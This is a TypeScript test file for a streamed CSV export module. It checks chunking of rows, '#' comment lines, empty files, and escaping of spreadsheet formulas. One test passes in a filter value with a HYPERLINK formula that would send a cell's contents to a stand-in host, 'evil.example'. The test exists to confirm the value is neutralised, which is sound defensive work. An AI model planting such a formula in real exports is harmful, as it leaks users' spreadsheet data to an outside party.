import { describe, expect, test } from 'vitest';
import { streamCsv, streamCsvTable } from '../../app/models/csv-stream.server';
import { parseCsv } from '../../app/utils/csv';

async function* numbered(count: number) {
  for (let index = 1; index <= count; index += 1) yield [String(index), `=row ${index}`];
}

/** Reads a response body chunk by chunk: the chunks as the server sends them, and the whole text. */
async function chunksOf(response: Response): Promise<{ chunks: number; text: string }> {
  const reader = response.body!.getReader();
  const decoder = new TextDecoder();
  let chunks = 0;
  let text = '';
  for (;;) {
    const { done, value } = await reader.read();
    if (done) return { chunks, text: text + decoder.decode() };
    chunks += 1;
    text += decoder.decode(value, { stream: true });
  }
}

/** Streamed downloads (the episode list, a run's rejected rows, the audit trail). */
describe('streamed CSV downloads', () => {
  test('rows leave in chunks of up to 500, not one chunk a row (300,000 audit lines took a minute so)', async () => {
    const response = streamCsvTable({ fileName: 'x.csv', header: ['n', 'text'], rows: numbered(1_001) });
    const { chunks, text } = await chunksOf(response);
    // The header, then 500 + 500 + 1 rows.
    expect(chunks).toBe(4);
    const lines = text.split('\r\n');
    expect(lines).toHaveLength(1 + 1_001 + 1);
    expect(lines.slice(0, 3)).toEqual(['n,text', "1,'=row 1", "2,'=row 2"]);
    expect(lines.at(-2)).toBe("1001,'=row 1001");
  });

  test('a file of figures keeps its # lines, header and every row; an empty one is its header', async () => {
    const response = streamCsv({
      fileName: 'x.csv',
      title: 'Rejected rows of ETL run 3',
      filters: [['Run', '3']],
      header: ['n', 'text'],
      rows: numbered(501),
    });
    const csv = parseCsv(await response.text());
    expect(csv.comments.slice(0, 2)).toEqual(['Rejected rows of ETL run 3', 'Run: 3']);
    expect(csv.header).toEqual(['n', 'text']);
    expect(csv.rows.map((row) => row[0])).toEqual(Array.from({ length: 501 }, (_, index) => String(index + 1)));
    const empty = streamCsvTable({ fileName: 'x.csv', header: ['n', 'text'], rows: numbered(0) });
    expect(await empty.text()).toBe('n,text\r\n');
  });

  test('a filter value from the address cannot put a formula in a field of a # line', async () => {
    const response = streamCsv({
      fileName: 'x.csv',
      title: 'De-identified episode list',
      filters: [
        ['Behind the figure', 'Recovery, the episodes counted, clinician x,=HYPERLINK("http://evil.example/"&A9)'],
      ],
      header: ['n', 'text'],
      rows: numbered(1),
    });
    const lines = (await response.text()).split('\r\n');
    expect(lines[1]).toBe(
      `# Behind the figure: Recovery, the episodes counted, clinician x,'=HYPERLINK("http://evil.example/"&A9)`,
    );
  });
});
